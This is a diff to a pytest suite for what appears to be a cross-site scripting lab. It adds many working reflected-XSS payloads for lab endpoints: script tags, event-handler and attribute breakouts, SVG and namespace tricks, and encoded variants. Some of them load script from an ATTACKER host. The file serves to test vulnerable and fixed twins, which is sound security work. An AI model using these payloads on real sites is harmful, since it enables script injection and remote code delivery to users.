@@ -1,12 +1,13 @@
 """Every cross-site scripting flaw runs three unlike scripts; its twin and the traps run none."""
 
+from base64 import b64encode
 from urllib.parse import quote
 
 import pytest
 
 from cyberai.lab.site import Site
 
-from .browser import runs_call
+from .browser import ATTACKER, runs_call
 from .client import flaws_of, get, send
 
 CHECK = "web.reflected-xss"
@@ -39,6 +40,21 @@ EXPLOITS: dict[str, tuple[str, ...]] = {
     "/account/engraving words": (f"<img src=x onerror={HANDLER_CODES}>", f"<svg onload='{HANDLER_CODES}'>",
                                  f"<a href=javascript&#58;{HANDLER_CODES}>x</a>"),
     "/contact/pickup point": TEXT,
+    "/flags/colour fill": ('"/><script>alert(1)</script><rect fill="', '" onclick="alert(1)',
+                               '"/><a xmlns="http://www.w3.org/1999/xhtml" onmouseover="alert(1)">x</a><rect fill="'),
+    "/tides/card harbour": ("<script>alert(1)</script>", "<b onclick='alert(1)'>x</b>", "<img src='x' onerror='alert(1)'/>"),
+    "/offers/feed shelf": ("<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
+                           "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+                           "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
+    "/orders/begin source": ('" accesskey="x" onclick="alert(1)', '" onfocus="alert(1)" type="text', '"onpaste="alert(1)'),
+    "/catalogue/picture caption": ('" onload="alert(1)', '" onclick="alert(1)', '"tabindex="1"onfocus="alert(1)'),
+    "/gifts/tag line": ("<svg onload=alert(1)>", "<a href=javascript:alert(1)>", "<p onclick=alert(1)>x</p>"),
+    "/berths/named berth": tuple(quote(payload, safe="") for payload in TEXT),
+    "/catalogue/pictures picture": TEXT,
+    "/charts/shared state": tuple(b64encode(payload.encode()).decode() for payload in TEXT),
+    "/lanterns/here deck": (f"<script src={ATTACKER}a.js></script>", f'<script src="{ATTACKER}"></script>',
+                            f"<svg></svg><script async src={ATTACKER}></script>"),
+    "/buoys/near point": TEXT,
     "/account/greeting name": ('"-alert(1)-"', '";alert(1);//', "</script><script>alert(1)</script>", '"+alert(1)+"'),
     "/account/locale lang": ("'-alert(1)-'", "';alert(1);//", "</script><svg onload=alert(1)>"),
     "/account/banner text": ("${alert(1)}", "`;alert(1);//", "`+alert(1)+`"),
@@ -77,7 +93,8 @@ def test_no_exploit_of_any_place_runs_on_the_fixed_twin(place: str) -> None:
     "trap",
     ["/service/echo name", "/service/attribute number", "/api/suggest q", "/service/receipt.txt customer",
      "/service/note note", "/service/tides harbour", "/service/boat boat", "/service/berth berth",
-     "/service/town town", "/service/flag flag", "/service/shout words"],
+     "/service/town town", "/service/flag flag", "/service/shout words", "/flags/plain fill",
+     "/offers/shelf shelf"],
 )  # fmt: skip
 @pytest.mark.parametrize("fixed", [False, True])
 def test_traps_reflect_and_run_nothing(trap: str, fixed: bool) -> None:
